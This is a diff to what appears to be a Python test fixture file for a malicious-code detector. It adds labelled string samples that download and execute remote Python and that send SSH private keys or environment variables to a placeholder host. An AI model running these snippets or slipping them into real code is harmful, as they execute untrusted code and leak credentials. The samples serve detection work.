@@ -65,6 +65,8 @@ HIDDEN_CODE: Final = {
     "code of a fernet": f"from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'{LONG}'))\n",
 }
 DOWNLOADS: Final = {
+    "module fetched": "import importlib.util, urllib.request\nurllib.request.urlretrieve('http://example.invalid/x.py', '/tmp/x.py')\ns = importlib.util.spec_from_file_location('x', '/tmp/x.py')\nm = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)\n",
+    "Python within Python": f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import requests;exec(requests.get(\"{HOST}\").text)'])\n",
     "exec of requests": f"import requests\nexec(requests.get('{HOST}/p').text)\n",
     "exec of urlopen": f"from urllib.request import urlopen\nexec(urlopen('{HOST}/p').read())\n",
     "exec in a thread": f"import threading, requests\ndef go():\n    exec(requests.get('{HOST}/p').text)\nthreading.Thread(target=go).start()\n",
@@ -82,6 +84,9 @@ DOWNLOADS: Final = {
     "command of a server": f"import requests, subprocess\nsubprocess.run(requests.get('{HOST}/c').text, shell=True)\n",
 }
 EXFILTRATION: Final = {
+    "key in a global": f"import requests\ndef f():\n    global k\n    k = open('/root/.ssh/id_rsa').read()\nf()\nrequests.post('{HOST}', data=k)\n",
+    "key copied first": f"import shutil, requests\nshutil.copy('/root/.ssh/id_rsa', '/tmp/a')\nrequests.post('{HOST}', files={{'a': open('/tmp/a')}})\n",
+    "environment of a command": f"import subprocess, requests\nrequests.post('{HOST}', data=subprocess.check_output('env', shell=True))\n",
     "key by urlopen": SSH + f"urllib.request.urlopen('{HOST}/', data=key)\n",
     "key by requests": f"import requests\nfrom pathlib import Path\nrequests.post('{HOST}', files={{'f': (Path.home() / '.ssh' / 'id_rsa').open('rb')}})\n",
     "key by a socket": SSH + "import socket\ns = socket.create_connection(('example.invalid', 9))\ns.sendall(key)\n",
